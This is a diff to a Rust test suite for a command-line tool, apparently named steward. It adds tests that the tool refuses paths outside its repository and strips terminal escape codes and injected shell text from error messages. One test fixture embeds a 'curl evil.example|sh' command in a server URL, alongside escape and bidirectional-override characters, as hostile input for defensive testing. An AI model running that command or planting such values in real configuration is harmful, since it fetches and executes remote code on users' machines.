@@ -116,6 +116,8 @@ async fn a_repository_cannot_read_or_write_files_outside_of_it() {
             assert!(message.contains("outside the directory of steward.json"), "{schema}: {message}");
         }
         assert!(!outside.exists(), "{schema} was written.");
+        let message = line.fails(2, &["schema", "pull"]).await;
+        assert!(!message.contains("Overwrite"), "{message}");
     }
     std::fs::write(&outside, "{\"tables\": {}}").unwrap();
     let message = line.fails(2, &["schema", "check"]).await;
@@ -151,4 +153,19 @@ async fn a_project_file_that_others_can_change_is_refused_unless_it_is_trusted()
     CommandLine::with(&app, &trusting).text(&["schema", "diff"]).await;
     permit(0o644);
     line.text(&["schema", "diff"]).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn messages_contain_no_text_of_a_repository_that_controls_a_terminal_or_a_shell() {
+    let app = App::start(Backend::Sqlite).await;
+    let line = CommandLine::with(&app, &[]);
+    for (file, expected) in [
+        (json!({"server": "https://e.example/;curl evil.example|sh #\u{1b}]0;", "project": "a"}), "not the URL"),
+        (json!({"project": "a", "\u{1b}[2J\u{202e}": 1}), "unknown field"),
+    ] {
+        std::fs::write(app.directory().join("steward.json"), file.to_string()).unwrap();
+        let message = line.fails(2, &["project", "list"]).await;
+        assert!(message.contains(expected) && !message.contains("steward login"), "{message}");
+        assert!(!message.contains(['\u{1b}', '\u{202e}']), "{message:?}");
+    }
 }
